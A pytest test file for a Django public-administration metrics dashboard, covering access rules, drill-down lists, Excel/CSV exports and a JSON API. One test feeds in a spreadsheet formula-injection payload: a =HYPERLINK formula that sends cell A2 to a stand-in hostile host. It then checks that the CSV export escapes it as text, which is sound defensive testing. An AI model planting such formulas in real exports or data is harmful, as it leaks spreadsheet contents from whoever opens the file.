"""Dashboards, drill-down lists, exports and the JSON API, as a user sees them."""

import csv
import io
from datetime import timedelta
from unittest import mock

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from accounts.tokens import token_issue
from metrics.tests.conftest import NOW

MARCH = "ky=thang&nam=2026&so=3"


@pytest.fixture(autouse=True)
def _frozen_now():
    # The pages count "in progress on time / overdue" at the moment of viewing.
    with mock.patch("django.utils.timezone.now", return_value=NOW):
        yield


def _login(client, user):
    client.force_login(user)
    return client


def test_anonymous_goes_to_login(client, db):
    response = client.get(reverse("metrics:dashboard"))
    assert response.status_code == 302 and "/tai-khoan/" in response["Location"]


def test_a_specialist_has_no_dashboard(client, org):
    response = _login(client, org.specialist).get(reverse("metrics:dashboard"))
    assert response.status_code == 404


def test_province_dashboard_shows_points_band_and_links(client, org, month):
    c = _login(client, org.head)  # head of the department and of the province (conftest)
    response = c.get(reverse("metrics:dashboard") + f"?don-vi={org.province.code}&{MARCH}")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Tháng 3/2026" in html
    # Vietnamese number format: decimal comma.
    assert "37,89" in html and "52,63" in html and "Trung bình" in html
    assert "chưa có dữ liệu" in html
    assert "<svg" in html and "Xu hướng 12 tháng" in html
    drill = reverse("metrics:drill")
    assert f"{drill}?don-vi={org.province.code}&amp;{MARCH.replace('&', '&amp;')}" \
           f"&amp;chi-so=settled_late" in html
    # Ranking: the commune (56.25) above the department (52.53).
    assert html.index("UBND xã Khác") < html.index("Sở Tư pháp tỉnh Thử nghiệm</a>")
    # Each ranked unit links to its own dashboard and to its lists, in the same period.
    unit_query = f"don-vi={org.other.code}&amp;{MARCH.replace('&', '&amp;')}"
    assert f'href="{reverse("metrics:dashboard")}?{unit_query}">UBND xã Khác</a>' in html
    assert f'href="{drill}?{unit_query}&amp;chi-so=received">' in html
    assert f'href="{drill}?{unit_query}&amp;chi-so=settled">' in html
    # The late list names the overdue dossiers and who holds them.
    assert month["F"].code in html and month["K"].code in html
    assert org.specialist.display_name in html


def test_department_head_sees_only_the_department(client, org, month):
    from accounts.models import Membership

    Membership.objects.filter(user=org.head, unit=org.province).delete()
    c = _login(client, org.head)
    response = c.get(reverse("metrics:dashboard") + f"?{MARCH}")
    assert response.status_code == 200
    html = response.content.decode()
    assert "15,00" in html and "52,53" in html  # the department's figures
    assert c.get(reverse("metrics:dashboard") + f"?don-vi={org.other.code}").status_code == 404
    assert c.get(reverse("metrics:dashboard") + f"?don-vi={org.province.code}").status_code \
        == 404


def test_drill_down_lists_the_dossiers_behind_a_number(client, org, month):
    c = _login(client, org.head)
    url = reverse("metrics:drill") + f"?don-vi={org.dept.code}&{MARCH}&chi-so=settled_late"
    html = c.get(url).content.decode()
    assert month["C"].code in html and month["A"].code not in html
    url = reverse("metrics:drill") + f"?don-vi={org.province.code}&{MARCH}&chi-so=received"
    html = c.get(url).content.decode()
    assert all(month[k].code in html for k in "ABCDEFHJK")
    assert month["G"].code not in html and month["I"].code not in html
    assert c.get(reverse("metrics:drill") + "?chi-so=nothing").status_code == 404


@pytest.mark.parametrize("kind,number", [("thang", 3), ("quy", 1), ("6thang", 1),
                                         ("9thang", 1), ("nam", 1)])
def test_every_period_renders(client, org, month, kind, number):
    c = _login(client, org.head)
    response = c.get(reverse("metrics:dashboard") + f"?ky={kind}&nam=2026&so={number}")
    assert response.status_code == 200


def test_excel_export(client, org, month):
    c = _login(client, org.head)
    response = c.get(reverse("metrics:export_xlsx") + f"?don-vi={org.province.code}&{MARCH}")
    assert response.status_code == 200
    # Under the download headers, as every file handed out (motcua.downloads).
    assert response["Content-Disposition"].startswith(
        f'attachment; filename="chi-so-766-{org.province.code}-')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    wb = load_workbook(io.BytesIO(response.content))
    ws = wb["Chỉ số 766"]
    rows = list(ws.iter_rows(min_row=4, values_only=True))
    header, province = rows[0], rows[1]
    assert province[1] == org.province.code
    assert province[header.index("Tiếp nhận trong kỳ")] == 9
    assert province[header.index("Tỷ lệ giải quyết trước và đúng hạn")] == 80.0
    assert province[header.index("Tỷ lệ thanh toán trực tuyến")] == "Chưa có dữ liệu"
    assert province[header.index("Xếp loại")] == "Trung bình"
    assert {r[1] for r in rows[2:]} == {org.centre.code, org.dept.code, org.other.code}
    assert "Định nghĩa" in wb.sheetnames


def test_csv_export_has_figures_and_no_personal_data(client, org, month):
    c = _login(client, org.head)
    response = c.get(reverse("metrics:export_csv") + f"?don-vi={org.dept.code}&{MARCH}")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Disposition"].startswith("attachment; ")
    body = response.content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    dept = {r["ma_chi_so"]: r["gia_tri"] for r in rows if r["ma_don_vi"] == org.dept.code}
    assert dept["received"] == "7" and dept["settled_late"] == "1"
    assert dept["diem_quy_doi"] == "52.53" and dept["xep_loai"] == "Trung bình"
    assert dept["satisfaction_rate"] == ""
    for d in month.values():
        assert d.code not in body and d.applicant_name not in body


def test_csv_export_writes_a_unit_name_that_would_open_as_a_formula_as_text(client, org,
                                                                           month):
    """A unit's name is typed by an administrator; opened in a spreadsheet, a name that begins
    with = + - @ ran as a formula on the reader's computer (motcua/spreadsheets.py)."""
    name = '=HYPERLINK("http://ke-gian.example/?"&A2,"Xem")'
    org.dept.name = name
    org.dept.save(update_fields=["name"])
    c = _login(client, org.head)
    body = c.get(reverse("metrics:export_csv") + f"?don-vi={org.dept.code}&{MARCH}") \
        .content.decode()
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows and {r["ten_don_vi"] for r in rows} == {"'" + name}
    dept = {r["ma_chi_so"]: r["gia_tri"] for r in rows}
    assert dept["received"] == "7"  # figures stay figures


def test_json_api_with_token(org, month):
    api = APIClient()
    assert api.get("/api/v1/metrics/").status_code in (401, 403)
    token = token_issue(org.head)
    api.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    body = api.get(f"/api/v1/metrics/?don-vi={org.dept.code}&{MARCH}").json()
    dept = body["units"][0]
    assert dept["code"] == org.dept.code
    assert dept["indicators"]["settled_on_time_rate"] == 75.0
    assert dept["indicators"]["online_payment_share"] is None
    assert (dept["points"], dept["scaled"], dept["band"]) == (37.82, 52.53, "Trung bình")
    assert body["method"]["is_default_set"] is True
    assert body["definitions"]["settled_late"]["name"] == "Giải quyết quá hạn"
    other = api.get(f"/api/v1/metrics/?don-vi=NO-SUCH&{MARCH}")
    assert other.status_code == 404


def test_trend_months_end_with_the_period(client, org, month):
    c = _login(client, org.head)
    html = c.get(reverse("metrics:dashboard") + "?ky=thang&nam=2026&so=4").content.decode()
    assert "04/26" in html and "05/25" in html and "04/25" not in html
    assert NOW - timedelta(days=1) < NOW  # pages computed at the frozen moment


def test_dashboard_query_budget_does_not_grow_with_dossiers(client, org, month,
                                                            django_assert_max_num_queries):
    """Grouped queries over counters, not a query per dossier or per child unit."""
    c = _login(client, org.head)
    url = reverse("metrics:dashboard") + f"?don-vi={org.province.code}&{MARCH}"
    c.get(url)
    with django_assert_max_num_queries(40):
        assert c.get(url).status_code == 200


def test_the_lists_link_only_the_dossiers_their_officer_may_open(org, make_dossier):
    """The dashboard counts every dossier of the unit it shows, but links a dossier only for an
    officer whom the row rule lets open it (metrics.selectors.dossier_codes_openable)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from metrics.selectors import dossier_codes_openable

    dossier = make_dossier()
    codes = [dossier.code, "000.00.12.H99-260302-9999"]
    assert dossier_codes_openable(org.desk, codes) == {dossier.code}
    assert dossier_codes_openable(org.other_desk, codes) == set()
    with CaptureQueriesContext(connection) as queries:
        assert dossier_codes_openable(org.desk, []) == set()
    assert queries.captured_queries == []
